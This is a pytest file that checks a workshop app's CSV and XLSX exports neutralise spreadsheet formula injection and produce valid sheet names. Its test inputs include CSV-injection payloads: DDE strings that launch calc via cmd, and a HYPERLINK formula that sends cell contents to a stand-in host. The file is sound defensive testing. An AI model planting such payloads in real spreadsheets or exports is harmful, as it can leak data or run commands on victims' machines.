"""Exports of what people wrote to break them, and of more than there ever is."""

import io
import zipfile

import pytest

from edp_app.core.commands import (
    AddItem,
    CastBallot,
    CloseStage,
    Describe,
    DescribeWorkshop,
    Join,
    OpenStage,
    RevealResult,
)
from edp_app.core.definition import Definition, GatherSettings, PointsMethod, Stage, VoteSettings
from edp_app.core.parts import Column, Field, Group
from edp_app.exports.as_csv import write_csv
from edp_app.exports.as_xlsx import fitting, sheet_name, write_xlsx
from edp_app.exports.cells import FORMULA, harmless, readable
from edp_app.exports.command import made
from edp_app.exports.model import export_model
from tests.support.definitions import GROUPS
from tests.support.memory import MemoryWorkshop
from tests.support.sheets import read_csv, read_xlsx

HOSTILE = [
    '=HYPERLINK("http://x.example/"&A1,"clic")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1+1",
    "\u200d=1+1",
    "https://x.example/ y mailto:a@b.example",
    'comillas " y, comas; y puntos y comas',
    "مرحبا بالعالم =1",
    "🧑🏽‍🌾 quinua 🌱",
    "_x0041_ no es una A",
    "<b>&amp;</b> ]]>",
    "1e5",
    "007",
    "2026-01-02",
    "TRUE",
    "x" * 500,
]


def workshop(*, columns: int = 1, stages: int = 1) -> Definition:
    """One vote on what was gathered; its stages have one title, which no sheet may have."""
    title = {"es": "[Ideas]: ¿qué/cuál* \\ primero? Una etapa con título larguísimo 🌱"}
    gather = GatherSettings(
        columns=[Column(f"c{n}", {"es": "=A1"}) for n in range(columns)],
        fields=[Field("why", {"es": "+Por qué"})],
        max_length=500,
        per_person=100,
    )
    votes = [
        Stage(f"v{n}", title, 5, VoteSettings("ideas", PointsMethod(), "balanced", 2)) for n in range(stages)
    ]
    return Definition(
        title="=cmd|' /C calc'!A0",
        groups=[Group(g, {"es": f"@{g}"}) for g in GROUPS],
        stages=[Stage("ideas", title, 5, gather), *votes],
    )


def voted(titles: list[str], *, stages: int = 2) -> MemoryWorkshop:
    room = MemoryWorkshop(workshop(stages=stages))
    people = [f"p:{n:026d}" for n in range(max(30, len(titles) // 100 + 1))]
    for n, person in enumerate(people):
        room.must(Join(), person)
        room.must(Describe(GROUPS[n % 5]), person)
    room.must(OpenStage("ideas"))
    for n, title in enumerate(titles):
        room.must(
            AddItem("ideas.1", "c0", title, {"why": title[:400]}), people[n // 100 if len(titles) > 99 else n]
        )
    items = list(room.state.items)
    for n in range(stages):
        run = f"v{n}.1"
        room.must(OpenStage(f"v{n}"))
        for place, person in enumerate(people):
            room.must(CastBallot(run, scores={items[(place * 7) % len(items)]: 3}), person)
        room.must(CloseStage(run))
        room.must(RevealResult(run))
    return room


@pytest.fixture(scope="module")
def export():
    return export_model(voted(HOSTILE).state)


def test_no_cell_of_a_table_begins_like_a_formula(export):
    for name, rows in read_csv(write_csv(export)).items():
        for row in rows:
            for cell in row:
                number = cell.lstrip("-").replace(".", "", 1).isdigit()
                assert number or cell[:1] not in FORMULA, f"{name}: {cell}"


def test_text_comes_out_of_tables_as_it_was_written_but_for_the_apostrophe(export):
    rows = read_csv(write_csv(export))["items.csv"]
    title = next(place for place, heading in enumerate(rows[0]) if heading.endswith("[title]"))
    written = [item.title for item in export.gatherings[0].items]
    assert [row[title] for row in rows[1:]] == [harmless(text) for text in written]
    assert [harmless(text).removeprefix("'") for text in HOSTILE] == HOSTILE
    assert [text for text in HOSTILE if harmless(text) != text] == [
        t for t in HOSTILE if t[:1] in "=+-@＝\u200d"
    ]


@pytest.mark.parametrize(
    "text", ["\ta", "\ra", "\0a", "\na", " =1", "\u00a0+1", "\ufeff@x", "='", "＠a", "－1"]
)
def test_what_begins_like_a_formula_gets_an_apostrophe(text):
    assert harmless(text) == f"'{text}"


@pytest.mark.parametrize("text", ["", "a=1", "'=1", "a\n=1", "…", "—1", "0", "ábaco"])
def test_other_text_stays_as_it_is(text):
    assert harmless(text) == text


def test_tables_are_csv_as_the_standard_has_it(export):
    with zipfile.ZipFile(io.BytesIO(write_csv(export))) as archive:
        assert archive.testzip() is None
        for name in archive.namelist():
            content = archive.read(name)
            assert content.startswith(b"\xef\xbb\xbf")
            assert content.endswith(b"\r\n")
            lines = list(read_csv(write_csv(export))[name])
            assert len({len(line) for line in lines}) == 1, name


def test_people_write_text_and_no_formulas_links_or_numbers_into_the_spreadsheet(export):
    content = write_xlsx(export)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            xml = archive.read(name)
            assert b"<f>" not in xml, name
            assert b"<hyperlink" not in xml, name
    sheets = read_xlsx(content)
    ideas = next(rows for name, rows in sheets.items() if name.startswith("Ideas"))
    title = ideas[0].index("Aporte")
    assert [row[title] for row in ideas[1:]] == [item.title for item in export.gatherings[0].items]


def test_sheets_of_one_title_have_names_of_their_own(export):
    names = list(read_xlsx(write_xlsx(export)))
    assert len({name.casefold() for name in names}) == len(names)
    assert all(len(name.encode("utf-16-le")) <= 62 and not set("[]:*?/\\") & set(name) for name in names)


@pytest.mark.parametrize(
    ("title", "name"),
    [
        ("Ideas", "Ideas"),
        ("'Ideas'", "Ideas"),
        ("History", "History (2)"),
        ("[]:*?/\\", "-"),
        ("", "-"),
        ("a" * 40, "a" * 30 + "…"),
        ("🌱" * 20, "🌱" * 15 + "…"),
        ("FODA: fortalezas", "FODA fortalezas"),
    ],
)
def test_a_sheet_is_named_after_its_stage(title, name):
    assert sheet_name(title, set()) == name


def test_names_of_sheets_do_not_repeat():
    taken: set[str] = set()
    assert [sheet_name(title, taken) for title in ("Votar", "VOTAR", "votar", "a" * 40, "a" * 41)] == [
        "Votar",
        "VOTAR (2)",
        "votar (3)",
        "a" * 30 + "…",
        "a" * 26 + "… (2)",
    ]


def test_what_no_file_can_hold_is_replaced():
    assert readable("a\0b\x0bc\ud800d\ufffe") == "a\ufffdb\ufffdc\ufffdd\ufffd"
    assert readable("línea\nsiguiente\t🌱") == "línea\nsiguiente\t🌱"
    assert len(fitting("a" * 40_000)) == 32_767
    assert fitting("🌱" * 20_000).endswith("…")
    assert len(fitting("🌱" * 20_000).encode("utf-16-le")) <= 2 * 32_767


def test_a_title_that_is_a_formula_stays_text_on_the_first_sheet(export):
    rows = next(iter(read_xlsx(write_xlsx(export)).values()))
    assert rows[1][1] == "=cmd|' /C calc'!A0"


@pytest.mark.slow
def test_two_thousand_contributions():
    room = voted([f"Aporte {n}" for n in range(2000)], stages=1)
    room.must(DescribeWorkshop(title="Muchos"))
    export = export_model(room.state)
    assert len(export.gatherings[0].items) == 2000
    assert len(read_csv(made(export, "csv"))["rankings.csv"]) == 2001
    book = read_xlsx(made(export, "xlsx"))
    assert sorted(len(rows) for rows in book.values())[-2:] == [2001, 2001]
